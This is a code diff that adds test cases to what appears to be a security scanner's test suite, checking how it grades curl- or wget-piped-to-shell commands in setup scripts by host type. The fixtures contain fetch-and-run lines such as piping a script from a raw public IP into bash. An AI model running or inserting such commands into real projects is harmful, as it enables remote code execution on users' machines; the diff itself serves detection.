@@ -41,6 +41,27 @@ m['ex' + 'ec'](cmd, { windowsHide: true });
       findings: [{ line: 3, severity: 'high', confidence: 'high' }],
     },
     {
+      name: 'the raw public IP is the second URL of the command (the first is a private mirror): critical',
+      file: 'scripts/setup.js',
+      code: "const { exec } = require('child_process');\nexec('curl -s http://10.0.0.5/ping && curl -s http://45.61.139.20/stage | bash');\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'a schemeless raw public IP (//45.61.139.20/…) counts as one too',
+      file: 'scripts/setup.js',
+      code: "const { exec } = require('child_process');\nexec('wget -qO- //45.61.139.20/s | sh');\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'a private or loopback IP stays high, as before (lab mirror, local dev server)',
+      file: 'scripts/setup.js',
+      code: "const { exec } = require('child_process');\nexec('curl -s http://192.168.1.10/setup.sh | bash');\nexec('curl -s http://127.0.0.1:8080/dev.sh | sh');\n",
+      findings: [
+        { line: 2, severity: 'high', confidence: 'high' },
+        { line: 3, severity: 'high', confidence: 'high' },
+      ],
+    },
+    {
       name: 'install hint printed by a CLI (low)',
       file: 'bin/cli.js',
       code: `console.log('Install bun first: curl -fsSL https://bun.sh/install | bash');\n`,
